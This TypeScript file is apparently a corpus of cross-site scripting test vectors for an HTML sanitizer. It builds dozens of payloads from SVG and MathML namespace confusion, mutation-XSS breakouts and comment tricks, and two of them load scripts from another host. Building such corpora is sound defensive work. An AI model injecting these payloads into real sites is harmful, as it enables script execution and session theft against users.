import type { Recipes } from './vector.ts';

/** SVG, MathML and markup that changes its meaning when it is parsed a second time. */
export const foreignVectors: Recipes = {
  'svg with onload': ({ js }) => `<svg onload=${js}>`,
  'svg with slashes': ({ js }) => `<svg/onload=${js}//`,
  'svg script': ({ js }) => `<svg><script>${js}</script></svg>`,
  'svg script with entities': ({ js }) => `<svg><script>&#95;${js.slice(1)}</script></svg>`,
  'svg script of another host': ({ host }) => `<svg><script href="https://${host}/a.js"></script></svg>`,
  'svg script with xlink': ({ host }) => `<svg><script xlink:href="https://${host}/a.js"></script></svg>`,
  'svg animation begins': ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  'svg set begins': ({ js }) => `<svg><set onbegin=${js} attributeName=x dur=1s></svg>`,
  'svg animates an address': ({ js }) =>
    `<svg><a><animate attributeName=href values="javascript:${js}"/><text x=20 y=20>x</text></a></svg>`,
  'svg link': ({ js }) => `<svg><a href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
  'svg xlink': ({ js }) => `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
  'svg use of data': ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${js}'/>#x"/></svg>`,
  'svg foreign object': ({ js }) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  'svg image': ({ js }) => `<svg><image href=x: onerror=${js}></svg>`,
  'svg title leaves the namespace': ({ js }) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  'svg desc leaves the namespace': ({ js }) => `<svg><desc><svg onload=${js}></desc></svg>`,
  'svg style closes early': ({ js }) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  'svg style with a hidden end': ({ js }) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  'svg style with CDATA': ({ js }) => `<svg><style><![CDATA[</style><img src=x onerror=${js}>]]>`,
  'svg discard': ({ js }) => `<svg><discard onbegin=${js}>`,
  'svg with a line break in the name': ({ js }) => `<svg\n\r\tonload\n=${js}>`,
  'svg attribute of another namespace': ({ js }) =>
    `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${js}" onclick="${js}">x</a></svg>`,
  'math link': ({ js }) => `<math href="javascript:${js}" onclick="${js}">x</math>`,
  'math action': ({ js }) =>
    `<math><maction actiontype="statusline" xlink:href="javascript:${js}" onmouseover="${js}">x</maction></math>`,
  'math annotation': ({ js }) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  'math text leaves the namespace': ({ js }) => `<math><mi><img src=x onerror=${js}></mi></math>`,
  'math with style and comment': ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  'math with form in form': ({ js }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  'math with style and math': ({ js }) => `<math><mtext><table><mglyph><style><math><img src onerror=${js}>`,
  'math with CDATA': ({ js }) =>
    `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js}&gt;">`,
  'math with xmp': ({ js }) => `<math><mtext><xmp></math><img src=x onerror=${js}>`,
  'math and svg by turns': ({ js }) =>
    `<math><mi></mi><svg><mtext><style><path id="</style><img onerror=${js} src=x>"></svg></math>`,
  'annotation in svg in math': ({ js }) =>
    `<math><annotation-xml encoding="text/html"><svg><style><p title="</style><img src=x onerror=${js}>">`,
  'noscript attribute': ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  'noscript in template': ({ js }) =>
    `<template><noscript><p title="</noscript><img src=x onerror=${js}>"></template><img src=x onerror=${js}>`,
  'noscript with comment': ({ js }) => `<noscript><!--</noscript><img src=x onerror=${js}>--></noscript>`,
  noembed: ({ js }) => `<noembed><p title="</noembed><img src=x onerror=${js}>"></noembed>`,
  noframes: ({ js }) => `<noframes><p title="</noframes><img src=x onerror=${js}>"></noframes>`,
  'iframe content': ({ js }) => `<iframe><p title="</iframe><img src=x onerror=${js}>"></iframe>`,
  'textarea content': ({ js }) => `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  'title content': ({ js }) => `<title><p title="</title><img src=x onerror=${js}>"></title>`,
  'xmp content': ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  plaintext: ({ js }) => `<img src=x onerror=${js}><plaintext>x`,
  'select content': ({ js }) => `<select><style></select><img src=x onerror=${js}></style>`,
  'option content': ({ js }) =>
    `<select><option><style></option></select><b><img src=x onerror=${js}></style></option>`,
  'keygen in select': ({ js }) =>
    `<select><keygen><img src=x onerror=${js}></select><img src=x onerror=${js}>`,
  'table fosters': ({ js }) => `<table><style><p title="</style><img src=x onerror=${js}>"></table>`,
  'caption fosters': ({ js }) =>
    `<table><caption><svg><caption><style><p title="</style><img src=x onerror=${js}>">`,
  'deep nesting': ({ js }) => `${'<div>'.repeat(300)}<img src=x onerror=${js}>`,
  'deep nesting that is cut': ({ js }) =>
    `${'<b>'.repeat(260)}<svg><style><img src=x onerror=${js}></style></svg>`,
  'nested forms': ({ js }) => `<form id=a><div></form><form id=b><input onfocus=${js} autofocus>`,
  template: ({ js }) => `<template><script>${js}</script></template><img src=x onerror=${js}>`,
  'declarative shadow root': ({ js }) =>
    `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
  'comment ends early': ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  'comment ends with a bang': ({ js }) => `<!-- --!><img src=x onerror=${js}> -->`,
  'comment in an attribute': ({ js }) =>
    `<p title="--><img src=x onerror=${js}>">x</p><img src=x onerror=${js}>`,
  'attribute in entities': ({ js }) => `<p title="&quot;&gt;&lt;img src=x onerror=${js}&gt;">x</p>`,
  'link text in an address': ({ js }) =>
    `<a href="https://a.example/<script>${js}</script>">x</a><a href='https://a.example/"><img src=x onerror=${js}>'>x</a>`,
  'script opening in an address': ({ js }) => `<a href="https://a.example/?<script>${js}//">x</a>`,
  'markup in grave accents': ({ js }) => `<p title="\`><img src=x onerror=${js}>\`">x</p>`,
};
